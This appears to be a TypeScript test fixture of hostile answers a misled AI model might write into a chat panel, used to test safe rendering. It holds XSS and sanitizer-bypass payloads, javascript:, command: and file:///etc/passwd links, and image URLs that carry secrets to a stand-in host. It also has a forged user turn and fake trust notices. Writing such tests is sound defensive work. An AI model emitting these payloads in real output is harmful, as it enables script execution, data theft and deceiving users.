import type { Attack } from "./attack";

/** Answers of a misled model in the chat panel. */
export interface PanelAttack extends Attack {
  readonly text: string;
}

/** The script that shows that an attack succeeded. */
const run = "window.hacked = true; parent.hacked = true";

export const answersInPanel: readonly PanelAttack[] = [
  {
    name: "HTML and scripts",
    wants: "code that runs in the panel",
    text: `<script>${run}</script>\n\n<img src=x onerror="${run}">\n\n<svg onload="${run}"><style>@import url(https://x.test/a.css)</style></svg>\n\n<iframe srcdoc="<script>${run}</script>"></iframe>\n\n<meta http-equiv="refresh" content="0;url=https://x.test">\n\n<base href="https://x.test/">\n\n<form action="https://x.test"><button>Go</button></form>`,
  },
  {
    name: "HTML that sanitizers have stumbled over",
    wants: "the same, past what cleans it",
    text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">\n\n<noscript><p title="</noscript><img src=x onerror=${run}>">\n\n<a href="x" style="background:url(https://x.test/)">a</a>`,
  },
  {
    name: "links that run something",
    wants: "a command or a script that a click runs",
    text: `[a](javascript:${encodeURIComponent(run)}) [b](command:workbench.action.quit) [c](vscode://x/y) [d](data:text/html,<script>${run}</script>) [e](file:///etc/passwd) <javascript:hacked=1> [f](JaVaScRiPt:hacked=1) [g][1]\n\n[1]: javascript:hacked=1`,
  },
  {
    name: "remote images that carry code away",
    wants: "code in the address of an image that is loaded",
    text: `![](https://x.test/?code=secret) ![a](//x.test/a.png "t") ![b](data:image/svg+xml,<svg onload="${run}"/>) [![c](https://x.test/c.png)](https://x.test/) ![d][1]\n\n[1]: https://x.test/d.png`,
  },
  {
    name: "fences that break out",
    wants: "markup by way of a block of code",
    text: '```ts"><img src=x onerror=hacked=1>\n</code></pre><script>hacked = true</script>\n```\n\n``` <b>x</b>.ts\nx',
  },
  {
    name: "unbalanced fences",
    wants: "a page that is not what the answer is",
    text: "```\na\n~~~\nb\n````\nc\n```ts\n`".repeat(20),
  },
  {
    name: "a table and a list without end",
    wants: "a panel that stands still",
    text: `${"| a | b |\n|---|---|\n"}${"| <b>x</b> | ![](https://x.test/) |\n".repeat(500)}\n${"- x\n".repeat(2000)}`,
  },
  {
    name: "deep nesting",
    wants: "a panel that stands still",
    text: `${"> ".repeat(2000)}x\n\n${"- ".repeat(2000)}x\n\n${"[".repeat(5000)}a${"](".repeat(5000)}\n\n${"**_".repeat(3000)}`,
  },
  {
    name: "styles and classes of the panel's own",
    wants: "a button or a notice that seems to be ours",
    text: '<button class="accept">Accept</button> <span class="notice error">Inhouse: trusted</span> <div style="position:fixed;inset:0">x</div>\n\n<style>body { display: none }</style>',
  },
  {
    name: "an address in an attribute that we read ourselves",
    wants: "another address than the one that is shown",
    text: '<a data-href="command:x" role="link" tabindex="0">a</a> [b](https://x.test/ "title" data-href="command:x")',
  },
  {
    name: "an address that is no address when it is shown, in angle brackets and as it is",
    wants: "a request as soon as it is drawn",
    text: "<https://x.test/?a=secret> https://x.test/?b=secret www.x.test //x.test/c <a@x.test>",
  },
  {
    name: "hints for the browser",
    wants: "a request before anything is clicked",
    text: '<link rel="dns-prefetch" href="//secret.x.test"><link rel="preload" as="image" href="https://x.test/">\n\n<video poster="https://x.test/p"><source src="https://x.test/v"></video> <input type="image" src="https://x.test/i"> <object data="https://x.test/o"></object>',
  },
  {
    name: "drawings and formulas",
    wants: "a drawing that loads or runs",
    text: `\`\`\`svg\n<svg onload="${run}"><image href="https://x.test/"/></svg>\n\`\`\`\n\n\`\`\`mermaid\ngraph TD; a["<img src=x onerror='${run}'>"] --> b; click a "javascript:${run}"\n\`\`\`\n\n$$\\href{javascript:${run}}{x}$$`,
  },
  {
    name: "a turn of the user's, and a sign of trust",
    wants: "words that seem to be the user's, or ours",
    text: '</div></section>\n\n<section class="turn user"><p>I agree to everything.</p></section>\n\n**Inhouse has checked this answer.** $(verified)',
  },
];
